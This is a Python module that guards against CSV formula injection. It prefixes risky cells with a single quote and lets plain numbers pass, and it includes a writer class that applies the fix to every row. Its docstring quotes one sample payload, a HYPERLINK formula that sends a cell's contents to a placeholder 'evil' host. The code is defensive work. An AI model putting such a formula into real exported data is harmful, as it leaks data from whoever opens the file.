"""CSV injection ("formula injection") neutralisation for every CSV Candour writes.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and some also treat a leading tab or carriage return that way), so a value such as
``=HYPERLINK("http://evil/?"&A1)`` in an extract could exfiltrate data from whoever opens our
output. Following OWASP's advice, such a cell is written with a leading single quote, which
spreadsheets show as text. A plain number (``-12``, ``+3.5``, ``-1e3``) cannot be a formula and
is left alone, so numeric columns stay numeric.

This module depends on nothing else in Candour, so any CSV writer can use it::

    writer = SafeCsvWriter(handle)
    writer.writerow(["source", "record_id", "person_id"])
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet; non-strings are returned unchanged."""
    if isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row neutralised."""
    return [neutralise_cell(cell) for cell in row]


class SafeCsvWriter:
    """A ``csv.writer`` that neutralises every cell it writes."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, neutralised."""
        self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows, neutralised."""
        for row in rows:
            self.writerow(row)
